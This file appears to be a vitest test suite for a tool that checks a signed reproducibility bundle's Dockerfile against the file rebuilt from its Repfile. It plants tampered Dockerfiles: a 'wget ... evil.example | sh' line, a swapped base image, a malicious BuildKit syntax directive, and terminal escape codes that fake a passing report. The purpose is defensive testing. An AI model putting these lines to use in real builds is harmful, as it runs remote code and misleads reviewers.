// rep verify emits the bundle's Dockerfile again from its Repfile, lock and
// context.tar and compares the bytes: REPRODUCE.md has readers build that
// Dockerfile, so a signer could otherwise ship a harmless Repfile beside one
// that runs anything. And a folder bundle that cannot be read is said with the
// names escaped, never with the raw error message that holds them.
import { spawnSync } from 'node:child_process';
import { createHash, generateKeyPairSync, type KeyObject } from 'node:crypto';
import { chmodSync, cpSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { NoneEngine } from '../../src/engine/none.js';
import type { Statement } from '../../src/emit/provenance.js';
import { signEnvelope } from '../../src/publish/dsse.js';
import { publish } from '../../src/publish/publish.js';
import { signBundle } from '../../src/publish/signature.js';
import { verifyBundle, type VerifyReport } from '../../src/publish/verify.js';
import { makeProject, open, REPO, tempFolders, type Tree } from '../helpers.js';

const REPFILE = `rep: 1
name: paper
base: busybox:latest
steps:
  data:
    inputs: [data/]
    run: cp data/x /x
`;

const sha = (b: string | Buffer) => createHash('sha256').update(b).digest('hex');
const folders = tempFolders();

function keys() {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519');
  const d = folders.make('rep-keys-');
  writeFileSync(path.join(d, 'k.key'), privateKey.export({ type: 'pkcs8', format: 'pem' }));
  writeFileSync(path.join(d, 'k.pub'), publicKey.export({ type: 'spki', format: 'pem' }));
  return { priv: path.join(d, 'k.key'), pub: path.join(d, 'k.pub'), privateKey };
}

async function publishedBundle(tree: Tree, sign?: string, before?: (project: string) => void): Promise<string> {
  const dir = folders.add(makeProject(tree));
  before?.(dir);
  const out = path.join(folders.make('rep-df-bundle-'), 'b');
  const r = await publish(open(dir), { engine: new NoneEngine(), out, sign });
  if (!r.ok) throw new Error(r.errors.map((e) => e.message).join('\n'));
  return out;
}

function copyOf(bundle: string): string {
  const d = path.join(folders.make('rep-df-copy-'), 'b');
  cpSync(bundle, d, { recursive: true });
  return d;
}

/**
 * What a hostile author who holds the key redoes after changing the bundle's files: the statement's
 * subjects, the crate's word on each file, SHA256SUMS, the citations, and both signatures.
 */
function resign(dir: string, key: KeyObject): void {
  const file = (f: string) => readFileSync(path.join(dir, f));
  const stPath = path.join(dir, 'provenance.json');
  const st = JSON.parse(readFileSync(stPath, 'utf8')) as Statement;
  for (const s of st.subject) if (s.name && existsSync(path.join(dir, s.name))) s.digest = { sha256: sha(file(s.name)) };
  const rf = st.predicate.buildDefinition.externalParameters.repfile as { sha256: string };
  rf.sha256 = sha(file('Repfile'));
  const stText = JSON.stringify(st, null, 2);
  writeFileSync(stPath, stText);
  writeFileSync(path.join(dir, 'provenance.dsse.json'), JSON.stringify(signEnvelope(Buffer.from(stText), key)));
  const cratePath = path.join(dir, 'ro-crate-metadata.json');
  const crate = JSON.parse(readFileSync(cratePath, 'utf8')) as { '@graph': Record<string, unknown>[] };
  for (const e of crate['@graph']) {
    const f = path.join(dir, String(e['@id']));
    if (e['@type'] === 'File' && existsSync(f)) Object.assign(e, { sha256: sha(readFileSync(f)), contentSize: String(statSync(f).size) });
  }
  writeFileSync(cratePath, JSON.stringify(crate, null, 2));
  const oldSums = file('SHA256SUMS');
  const names = oldSums.toString('utf8').split('\n').filter(Boolean).map((l) => l.slice(66));
  const sums = names.map((f) => `${sha(file(f))}  ${f}\n`).join('');
  writeFileSync(path.join(dir, 'SHA256SUMS'), sums);
  for (const f of ['CITE.md', 'CITE.tex']) writeFileSync(path.join(dir, f), file(f).toString('utf8').replaceAll(sha(oldSums), sha(sums)));
  const hashes = new Map(readdirSync(dir).filter((f) => f !== 'bundle.dsse.json').map((f) => [f, sha(file(f))]));
  writeFileSync(path.join(dir, 'bundle.dsse.json'), JSON.stringify(signBundle(hashes, key)));
}

const failures = (r: VerifyReport) => r.checks.filter((c) => !c.ok).map((c) => [c.name, ...c.detail]);

/** rep from its sources (dist/ is not rebuilt by unit tests): exit code and stdout. */
function repSource(args: string[]) {
  const r = spawnSync(process.execPath, ['--import', path.join(REPO, 'node_modules', 'tsx', 'dist', 'loader.mjs'), path.join(REPO, 'cli', 'main.ts'), ...args], { encoding: 'utf8', timeout: 30_000, killSignal: 'SIGKILL' });
  return { code: r.status, stdout: r.stdout };
}

describe("the bundle's Dockerfile against its Repfile", () => {
  it('a signed bundle whose Dockerfile runs more than its Repfile says fails verify, at the line that differs', async () => {
    const k = keys();
    const bundle = await publishedBundle({ Repfile: REPFILE, 'data/x': 'x\n' }, k.priv);
    const good = await verifyBundle(bundle, { key: k.pub });
    expect(good.checks.map((c) => [c.name, c.ok, ...(c.ok ? c.detail : [])])).toEqual([
      ['checksums', true, expect.stringMatching(/^sha256:/)], ['subjects', true], ['signature', true], ['keys', true, '1 steps'],
      ['dockerfile', true, 'as the Repfile, its lock and context.tar give it'],
    ]);

    // The author's own key signs a Dockerfile that fetches and runs a script (and paints a clean report).
    const evil = copyOf(bundle);
    const text = readFileSync(path.join(evil, 'Dockerfile'), 'utf8');
    const lines = text.split('\n');
    const at = lines.findIndex((l) => l.startsWith('RUN '));
    lines.splice(at, 0, 'RUN wget -qO- https://evil.example/x | sh # \x1b[2K\rok      dockerfile');
    writeFileSync(path.join(evil, 'Dockerfile'), lines.join('\n'));
    resign(evil, k.privateKey);
    const r = await verifyBundle(evil, { key: k.pub });
    expect(failures(r)).toEqual([
      ['dockerfile', `Dockerfile line ${at + 1} is not what the Repfile, its lock and context.tar give: the bundle has "RUN wget -qO- https://evil.example/x | sh # \\u001b[2K\\u000dok      dockerfile", rep emits "${lines[at + 1]}"`],
    ]);

    // As a reviewer sees it.
    const cli = repSource(['verify', evil, '--key', k.pub]);
    expect(cli.code).toBe(1);
    expect(cli.stdout).toContain(`FAILED  dockerfile\n        Dockerfile line ${at + 1} is not what`);
    expect(cli.stdout).not.toMatch(/[\x00-\x09\x0b-\x1f]/);
    expect(cli.stdout.trim().split('\n').at(-1)).toBe('rep: verify failed: dockerfile');
  });

  it('a Dockerfile cut short, or with a line added at its end, is said so', async () => {
    const k = keys();
    const bundle = await publishedBundle({ Repfile: REPFILE, 'data/x': 'x\n' }, k.priv);
    const text = readFileSync(path.join(bundle, 'Dockerfile'), 'utf8');
    const n = text.split('\n').length;

    const longer = copyOf(bundle);
    writeFileSync(path.join(longer, 'Dockerfile'), `${text}RUN id\n`);
    resign(longer, k.privateKey);
    expect(failures(await verifyBundle(longer, { key: k.pub }))).toEqual([
      ['dockerfile', `Dockerfile line ${n} is not what the Repfile, its lock and context.tar give: the bundle has "RUN id", rep emits nothing (the file ends)`],
    ]);

    const shorter = copyOf(bundle);
    const cut = text.split('\n').slice(0, -2);
    writeFileSync(path.join(shorter, 'Dockerfile'), `${cut.join('\n')}\n`);
    resign(shorter, k.privateKey);
    expect(failures(await verifyBundle(shorter, { key: k.pub }))).toEqual([
      ['dockerfile', `Dockerfile line ${n - 1} is not what the Repfile, its lock and context.tar give: the bundle has nothing (the file ends), rep emits "${text.split('\n').at(-2)}"`],
    ]);
  });

  it("a base pinned by the lock is emitted with the lock's digest: another FROM fails", async () => {
    const k = keys();
    const digest = `sha256:${'a'.repeat(64)}`;
    const lock = `${JSON.stringify({ lockVersion: 1, images: { 'busybox:latest': digest } }, null, 2)}\n`;
    const bundle = await publishedBundle({ Repfile: REPFILE, 'Repfile.lock': lock, 'data/x': 'x\n' }, k.priv);
    const text = readFileSync(path.join(bundle, 'Dockerfile'), 'utf8');
    expect(text).toContain(`FROM busybox@${digest} AS data`);
    expect(failures(await verifyBundle(bundle, { key: k.pub }))).toEqual([]);

    const other = copyOf(bundle);
    writeFileSync(path.join(other, 'Dockerfile'), text.replace(`FROM busybox@${digest}`, 'FROM evil.example/busybox:latest'));
    resign(other, k.privateKey);
    const f = failures(await verifyBundle(other, { key: k.pub }));
    expect(f).toEqual([['dockerfile', expect.stringMatching(/^Dockerfile line \d+ is not what .*: the bundle has "FROM evil\.example\/busybox:latest AS data", rep emits "FROM busybox@sha256:a{64} AS data"$/)]]);
  });

  it('a header that reads as a BuildKit directive (# syntax=) fails, from the Dockerfile or through the statement', async () => {
    const k = keys();
    const bundle = await publishedBundle({ Repfile: REPFILE, 'data/x': 'x\n' }, k.priv);
    const text = readFileSync(path.join(bundle, 'Dockerfile'), 'utf8');

    const directive = copyOf(bundle);
    writeFileSync(path.join(directive, 'Dockerfile'), `# syntax=evil.example/frontend\n${text}`);
    resign(directive, k.privateKey);
    expect(failures(await verifyBundle(directive, { key: k.pub }))[0]?.[1]).toMatch(/^Dockerfile line 1 is not what .*: the bundle has "# syntax=evil\.example\/frontend", rep emits "# Generated by rep /);

    // The statement's Repfile path is on the first line: one with a line break would write a line of its own. The
    // emitter names such a path JSON-quoted, on its one line, as a build in a folder of that name does.
    const injected = copyOf(bundle);
    const stPath = path.join(injected, 'provenance.json');
    const st = JSON.parse(readFileSync(stPath, 'utf8')) as Statement;
    const rf = st.predicate.buildDefinition.externalParameters.repfile as { path: string };
    rf.path = 'Repfile\n# syntax=evil.example/frontend\n#';
    writeFileSync(stPath, JSON.stringify(st, null, 2));
    const first = text.split('\n')[0]!;
    writeFileSync(path.join(injected, 'Dockerfile'), text.replace(first, first.replace('from Repfile', `from ${rf.path}`)));
    resign(injected, k.privateKey);
    const said = failures(await verifyBundle(injected, { key: k.pub }));
    expect(said.map(([check]) => check)).toEqual(['dockerfile']);
    expect(said[0]![1]).toMatch(/^Dockerfile line 1 is not what .*: the bundle has "# Generated by rep [^"]* from Repfile", rep emits "# Generated by rep /);
    expect(said[0]![1]).toContain('from "Repfile\\n# syntax=evil.example/frontend\\n#" (sha256:');
  });

  it('bundles whose folders the publisher could not copy whole (a folder of mode 775, an empty folder) still verify', async () => {
    const tree = { Repfile: REPFILE, 'data/x': 'x\n', 'data/sub/y': 'y\n' };
    const whole = await publishedBundle(tree);
    expect(readFileSync(path.join(whole, 'Dockerfile'), 'utf8')).toContain('COPY ["data","/work/data/"]');
    expect(failures(await verifyBundle(whole))).toEqual([]);

    const group = await publishedBundle(tree, undefined, (dir) => chmodSync(path.join(dir, 'data/sub'), 0o775));
    const groupText = readFileSync(path.join(group, 'Dockerfile'), 'utf8');
    expect(groupText).not.toContain('COPY ["data","/work/data/"]');
    expect(groupText).toContain('COPY ["data/sub","/work/data/sub/"]');
    expect(failures(await verifyBundle(group))).toEqual([]);

    const empty = await publishedBundle(tree, undefined, (dir) => mkdirSync(path.join(dir, 'data/empty')));
    expect(readFileSync(path.join(empty, 'Dockerfile'), 'utf8')).not.toContain('COPY ["data","/work/data/"]');
    expect(failures(await verifyBundle(empty))).toEqual([]);
  });
});

describe('a folder bundle that cannot be read', () => {
  const deep: string[] = [];
  // Node removes by absolute paths, which these trees are too deep for.
  afterAll(() => {
    for (const d of deep) spawnSync('rm', ['-rf', d]);
  });

  it('says which folder, escaped and cut, with the error code: never the raw message, which holds the names', async () => {
    const bundle = copyOf(await publishedBundle({ Repfile: REPFILE, 'data/x': 'x\n' }));
    deep.push(path.dirname(bundle));
    const name = `a\x1b[1;32mok    bundle verified\x1b[0m${'x'.repeat(200)}`;
    // Made by relative steps (in a child: a worker cannot chdir): past PATH_MAX no absolute path reaches the bottom.
    const steps = Array.from({ length: 20 }, (_, i) => (i === 0 ? name : 'y'.repeat(250)));
    const made = spawnSync(process.execPath, ['-e', 'for (const d of process.argv.slice(1)) { require("fs").mkdirSync(d); process.chdir(d); }', ...steps], { cwd: bundle });
    expect(made.status).toBe(0);
    const r = await verifyBundle(bundle);
    expect(r.checks.flatMap((c) => c.detail).join('\n')).not.toMatch(/[\x00-\x09\x0b-\x1f]/);
    const said = failures(r).find((f) => f[0] === 'checksums')!;
    expect(said.find((l) => l.includes('ENAMETOOLONG'))).toMatch(/^cannot read the folder a\\u001b\[1;32mok {4}bundle verified\\u001b\[0mx+\.\.\.: ENAMETOOLONG$/);
    for (const line of said) expect(line.length).toBeLessThan(300);
  });
});
